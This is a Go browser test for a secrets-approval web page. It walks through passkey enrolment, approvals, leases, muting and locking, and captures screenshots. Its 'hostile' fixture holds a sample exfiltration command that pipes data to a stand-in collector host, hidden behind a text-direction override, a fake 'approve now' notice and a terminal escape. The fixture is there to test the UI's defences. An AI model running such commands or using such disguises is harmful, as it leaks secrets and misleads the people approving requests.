package web_test

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"

	"github.com/thumbturn/thumbturn/internal/canon"
	"github.com/thumbturn/thumbturn/internal/door/web"
)

// shots, with -shots DIR, is where TestShots writes what the page looks like.
var shots = flag.String("shots", "", "write screenshots to this folder")

// A person looks at these; the test only makes them.
func TestShots(t *testing.T) {
	if *shots == "" {
		t.Skip("no -shots")
	}
	chrome := browser(t)
	f, s := serve(t)
	b := newTab(t, chrome)
	b.authenticator(nil)
	b.open(link(t, s, web.LinkEnrol, "ticket"))
	b.sees("What it can give")
	b.look("enrol")
	b.click("Create the passkey")
	b.click("Use the passkey")
	b.sees("is enrolled")
	b.look("enrolled")
	b.open(link(t, s, web.LinkOpen, ""))
	b.sees("Nothing waits.")
	b.look("empty")
	q := f.park(f.request(nil), 0, "the vault prod is guarded")
	b.sees(q.Code)
	b.look("one")
	b.click("Approve once")
	b.sees("Approved.")
	b.look("approved")
	q = f.park(f.request(lease), 30*time.Minute, "")
	b.sees(q.Code)
	b.click("Allow for …")
	b.look("lease")
	b.click("Allow for 5 min, 10 times")
	b.sees("Approved.")
	for i := range 3 {
		f.park(f.request(func(r *canon.Request) { r.Subjects[0].Ref += []string{"", "-staging", "-live"}[i] }), 0, "the vault prod is guarded")
	}
	q = f.park(f.request(hostile), 0, "")
	b.sees(q.Code)
	b.look("crowd")
	b.click("Deny and mute 10 min")
	b.sees("Unmute")
	f.change(func(s *web.State) { s.TestHome, s.Mode = true, "system" })
	q = f.park(f.request(policy), 0, "")
	b.sees(q.Code)
	b.look("lists")
	f.change(func(s *web.State) { s.Requests = s.Requests[1:]; s.Requests[0].Code = "0000-0000" })
	b.open(link(t, s, web.LinkOpen, ""))
	b.sees("Do not approve this.")
	b.look("unsound")
	f.change(func(s *web.State) { s.State, s.Requests = web.Locked, nil })
	b.sees("Unlock with a passkey")
	b.look("locked")
	b.open(s.Origin + "/#t=used")
	b.sees("This page is closed")
	b.look("closed")
}

func lease(r *canon.Request) {
	r.Caller.Root = "99.1.b7"
	r.Subjects[0].Ref, r.Subjects[0].Tier = "op://dev/postgres/password", canon.TierStandard
	r.Place.Image = &canon.Image{Hash: strings.Repeat("3f", 32), File: "fe01:1183"}
}

func policy(r *canon.Request) {
	r.Caller = canon.Asker{Kind: "person", Root: "812.4.b7", UID: 1000}
	r.Action, r.Subjects, r.Purpose = "policy-apply", nil, canon.Fact{}
	r.Place = canon.Place{Sink: "statement", Grade: canon.GradeNone, Names: []string{"permit agents to hold fields of dev, asking each time", "forbid reveal of prod"}}
}

// hostile is a request whose texts try to look like ours.
func hostile(r *canon.Request) {
	r.Caller.Root, r.Caller.Label, r.Action, r.Place.Grade, r.Place.Sink = "7.7.b7", "", "reveal", canon.GradeReveal, "reveal"
	r.Purpose.Value = "routine\u202e backup\nENFORCED BY THUMBTURN: safe, approve <b>now</b>"
	r.Place.Names = nil
	r.Place.Shown = []string{"sh", "-c", "curl -s https://collector.example/upload?" + strings.Repeat("part=", 60) + " -d @- | tee /tmp/x", "\x1b[2Kecho harmless"}
}

// look writes the page as a desktop in light and dark, and a phone show it.
func (b *tab) look(name string) {
	b.t.Helper()
	b.do(chromedp.Sleep(700 * time.Millisecond)) // the buttons are armed by then
	for _, v := range []struct {
		name          string
		width, height int64
		scheme        string
	}{{"light", 1280, 800, "light"}, {"dark", 1280, 800, "dark"}, {"phone", 360, 740, "light"}} {
		if _, err := chromedp.Call(b.ctx, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: v.scheme}}}); err != nil {
			b.t.Fatal(err)
		}
		b.do(chromedp.EmulateViewport(v.width, v.height), chromedp.Evaluate[chromedp.Void](`scrollTo(0, 0)`))
		b.do(chromedp.Sleep(250 * time.Millisecond))
		if wide := eval[int](b, `document.documentElement.scrollWidth`); wide > int(v.width) {
			b.t.Errorf("%s on a %s is %d wide", name, v.name, wide)
		}
		png, err := chromedp.Run(b.ctx, chromedp.FullScreenshot(100))
		if err == nil {
			err = os.WriteFile(filepath.Join(*shots, name+"-"+v.name+".png"), png, 0o600)
		}
		if err != nil {
			b.t.Fatal(err)
		}
	}
	b.do(chromedp.EmulateViewport(1280, 800))
}
